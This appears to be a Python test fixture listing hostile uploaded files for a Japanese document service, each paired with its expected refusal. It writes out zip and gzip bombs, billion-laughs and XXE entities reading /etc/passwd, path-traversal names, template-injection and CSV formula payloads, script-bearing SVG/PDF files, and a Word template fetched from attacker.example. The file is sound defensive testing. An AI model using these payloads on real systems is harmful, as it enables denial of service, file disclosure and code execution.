"""Files which somebody made to harm: what each is called, where it is sent, and how it has to end."""

from __future__ import annotations

import gzip
import io
import struct
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from docx import Document

from madoguchi.documents.calc.file_kinds import MEGABYTE
from tests.faults.hostile_archives import (
    BOOK,
    SPREADSHEET,
    Part,
    archive,
    bomb,
    gzip_bomb,
    part,
    with_part,
    workbook,
)

BOOKS = ("people", "equipment", "costs", "articles")
HANDED = ("submission",)
TOO = ("evidence", "layout", "declaration")
TEXTS = ("articles", "scripts", "guides", "synonyms")
LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY l0 "laugh">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)
SECRET = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
NEEDED = "{{ 宛先 }}{{ 差出人 }}{{ 日付 }}{{ 題名 }}"
LARGE, STRANGE, BROKEN = (
    "大きすぎ",
    "作らない部品|読めません|開けません|提出できない種類|開けない形",
    "読めません|開けません",
)
KIND = "提出できない種類|中身は|名前の終わり|どれかにしてください|読めません|文字コード|文字のファイルではありません"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file: its name, its bytes, its doors, and the words of the refusal; no words where it does no harm."""

    name: str
    make: Callable[[], bytes]
    doors: tuple[str, ...]
    words: str = ""
    harmless: str = ""


def _book(rows: str | Part = "", strings: str | Part = "", **parts: Part) -> Callable[[], bytes]:
    return lambda: workbook(rows, strings, **parts)


def _xml(text: str, coding: str = "utf-8") -> Part:
    return part(text.encode(coding))


def word(*paragraphs: str) -> bytes:
    """Return a Word file."""
    document, stream = Document(), io.BytesIO()
    for each in paragraphs:
        document.add_paragraph(each)
    document.save(stream)
    return stream.getvalue()


def _form(*marks: str) -> Callable[[], bytes]:
    return lambda: word(NEEDED, *marks)


def _word_with(name: str, put: Part) -> Callable[[], bytes]:
    return lambda: with_part(word(NEEDED), name, put)


def _attached() -> bytes:
    links = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return with_part(word(NEEDED), "word/_rels/settings.xml.rels", part(links))


def _many() -> bytes:
    return archive({f"p{number}": Part(b"", 0, method=0) for number in range(4000)})


def _overlapping() -> bytes:
    kernel = bomb(12)
    return archive([(f"xl/{number}.xml", kernel) for number in range(300)], shared=True)


def _flood() -> bytes:
    head = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + head
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + chunk + struct.pack(">I", zlib.crc32(chunk)) + b"\0" * 12


SHEET = f'<worksheet xmlns="{SPREADSHEET}"><sheetData>'.encode()
ROW = "<row r='{0}'><c r='A{0}'><v>1</v></c></row>"
WIDE = "".join(f"<row r='{at}'><c r='XFD{at}'><v>1</v></c></row>" for at in range(1, 5000))
SCRIPT = b"<script>alert(1)</script>"
FORMULA = "番号,質問,短い答え,答え\r\nX01,=HYPERLINK(\"http://a.example\"),@SUM(1),=cmd|' /C calc'!A0\r\n"

FILES: Mapping[str, Hostile] = {
    "a book which says it is 3 GB": Hostile(
        "b.xlsx", _book(bomb(200, said=3_000 * MEGABYTE)), (*BOOKS, "calls", *HANDED), LARGE
    ),
    "a sheet of 300 MB of blanks": Hostile(
        "b.xlsx", _book(bomb(300, begin=SHEET)), (*BOOKS, "calls", *HANDED, *TOO), LARGE
    ),
    "a book which says 99 bytes and is 450 MB": Hostile(
        "b.xlsx", _book("", bomb(450, said=99)), (*BOOKS, "calls", *HANDED), STRANGE
    ),
    "an archive of four thousand parts": Hostile("b.xlsx", _many, (*BOOKS, *HANDED), "多すぎ"),
    "parts which share their bytes": Hostile("b.xlsx", _overlapping, (*BOOKS, "calls", *HANDED), LARGE),
    "a billion laughs in a sheet": Hostile(
        "b.xlsx", _book(_xml(f"{LAUGHS}<worksheet xmlns='{SPREADSHEET}'>&l9;</worksheet>")), (*BOOKS, "calls"), STRANGE
    ),
    "an entity which reads a file": Hostile(
        "b.xlsx", _book(**{"xl/workbook.xml": _xml(SECRET + BOOK)}), (*BOOKS, "calls"), STRANGE
    ),
    "an entity in UTF-16": Hostile(
        "b.xlsx", _book("", _xml(f"{LAUGHS}<sst>&l9;</sst>", "utf-16")), (*BOOKS, "calls"), STRANGE
    ),
    "a million tiny strings": Hostile(
        "b.xlsx", _book("", "".join(f"<si><t>{at % 10}</t></si>" for at in range(1_000_000))), BOOKS, LARGE
    ),
    "rows a thousand million apart": Hostile(
        "b.xlsx",
        _book("".join(map(ROW.format, (1, 1_048_576, 999_999_999)))),
        (*BOOKS, "calls"),
        f"見出し|シートがありません|空の行|列を|{BROKEN}",
    ),
    "cells in the last column of every row": Hostile(
        "b.xlsx", _book(WIDE), (*BOOKS, "calls"), f"見出し|シートがありません|列|何も書かれていません|{BROKEN}"
    ),
    "a locked book": Hostile(
        "b.xlsx", _book(**{"xl/workbook.xml": part(BOOK, flags=1)}), (*BOOKS, "calls", *HANDED), "パスワード"
    ),
    "a book cut in half": Hostile(
        "b.xlsx", lambda: workbook(ROW.format(1))[:700], (*BOOKS, "calls", *HANDED), f"{KIND}|{BROKEN}"
    ),
    "a book without sheets": Hostile(
        "b.xlsx",
        _book(**{"xl/workbook.xml": _xml(f"<workbook xmlns='{SPREADSHEET}'/>")}),
        (*BOOKS, "calls"),
        f"シートがありません|{BROKEN}",
    ),
    "names which climb out of the folder": Hostile(
        "b.xlsx", _book(**{"../../../../etc/cron.d/x": part("x")}), (*BOOKS, *HANDED), STRANGE
    ),
    "a link to a file of the server": Hostile(
        "b.xlsx", _book(**{"xl/x": part("/etc/passwd", mode=0o120777)}), (*BOOKS, *HANDED), STRANGE
    ),
    "archives in archives": Hostile(
        "b.zip", lambda: archive({f"{n}.zip": part(archive({"x": bomb(50)})) for n in range(9)}), HANDED, KIND
    ),
    "macros": Hostile("b.xlsx", _book(**{"xl/vbaProject.bin": part("Sub Auto_Open()")}), HANDED, "マクロ"),
    "a letter of 1 GB": Hostile(
        "l.docx", _word_with("word/document.xml", bomb(450, said=99)), ("form", *HANDED, *TOO), STRANGE
    ),
    "a billion laughs in a letter": Hostile(
        "l.docx", _word_with("word/document.xml", _xml(LAUGHS + "<d>&l9;</d>")), ("form", *HANDED), STRANGE
    ),
    "a form which fetches another": Hostile("l.docx", _attached, ("form",), "ほかの場所"),
    "a form which counts for ever": Hostile(
        "l.docx",
        _form("{%p for a in 題名 %}", "{%p for b in 題名 %}", "{{ b }}", "{%p endfor %}", "{%p endfor %}"),
        ("form",),
        "使えない書き方",
    ),
    "a form which multiplies": Hostile("l.docx", _form("{{ '9' * 999999999 }}"), ("form",), "使えない書き方"),
    "a form which reaches for Python": Hostile(
        "l.docx", _form("{{ 題名.__class__.__base__.__subclasses__() }}"), ("form",), "使えない書き方"
    ),
    "a drawing with a script": Hostile(
        "d.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>", (*HANDED, *TOO), KIND
    ),
    "a page which calls itself a PDF": Hostile("p.pdf", lambda: b"<html>" + SCRIPT, (*HANDED, *TOO), KIND),
    "a PDF which is a page as well": Hostile("p.html", lambda: b"%PDF-1.7\n" + SCRIPT, HANDED, KIND),
    "a PDF with a script": Hostile(
        "p.pdf",
        lambda: b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
        HANDED,
        harmless="kept as it is; handed out as an attachment of its own kind, never opened here",
    ),
    "a program under another name": Hostile("x.pdf", lambda: b"MZ\x90\0" + b"\0" * 4096, HANDED, KIND),
    "a picture of ten thousand million points": Hostile(
        "f.png", _flood, HANDED, harmless="kept as it is; no picture which somebody sent is drawn here"
    ),
    "ten gigabytes in a packed log": Hostile("q.gz", lambda: gzip_bomb(1500), ("calls",), LARGE),
    "a line of a gigabyte": Hostile("q.csv", lambda: gzip_bomb(1000, b"x"), ("calls",), LARGE),
    "zeros between the letters": Hostile(
        "q.csv",
        "着信日時,結果\n2023/11/06 9:05,応\0答\n".encode,
        ("calls", "costs", "articles"),
        f"{KIND}|{BROKEN}|制御文字|ありません",
    ),
    "four million commas": Hostile("q.csv", lambda: b"," * 4_000_000, ("articles", "costs"), LARGE),
    "forty megabytes of nothing": Hostile("q.json", lambda: b" " * (40 * MEGABYTE), TEXTS, LARGE),
    "a hundred thousand brackets": Hostile("q.json", lambda: b"[" * 100_000, TEXTS, BROKEN),
    "a million empty articles": Hostile("q.json", lambda: b"[" + b"[]," * 1_000_000 + b"[]]", ("articles",), LARGE),
    "keys within keys": Hostile("q.toml", lambda: b".".join([b"a"] * 100_000) + b"=1", TEXTS, f"{KIND}|{BROKEN}"),
    "brackets in TOML": Hostile("q.toml", lambda: b"a=" + b"[" * 20_000, TEXTS, f"{KIND}|{BROKEN}"),
    "an alphabet of nobody": Hostile(
        "q.csv", lambda: b"\x81\xff\xfe\x00\xd8" * 999, ("articles", "costs", "calls"), f"{KIND}|{BROKEN}"
    ),
    "formulas": Hostile(
        "q.csv", FORMULA.encode, ("articles",), harmless="read as text; whatever is written out is guarded"
    ),
    "a gzip file which breaks off": Hostile(
        "q.gz",
        lambda: gzip.compress(b"1699228800|1|s|NONE|ENTERQUEUE||\n" * 9)[:40],
        ("calls",),
        "圧縮|着信日時|ください",
    ),
}
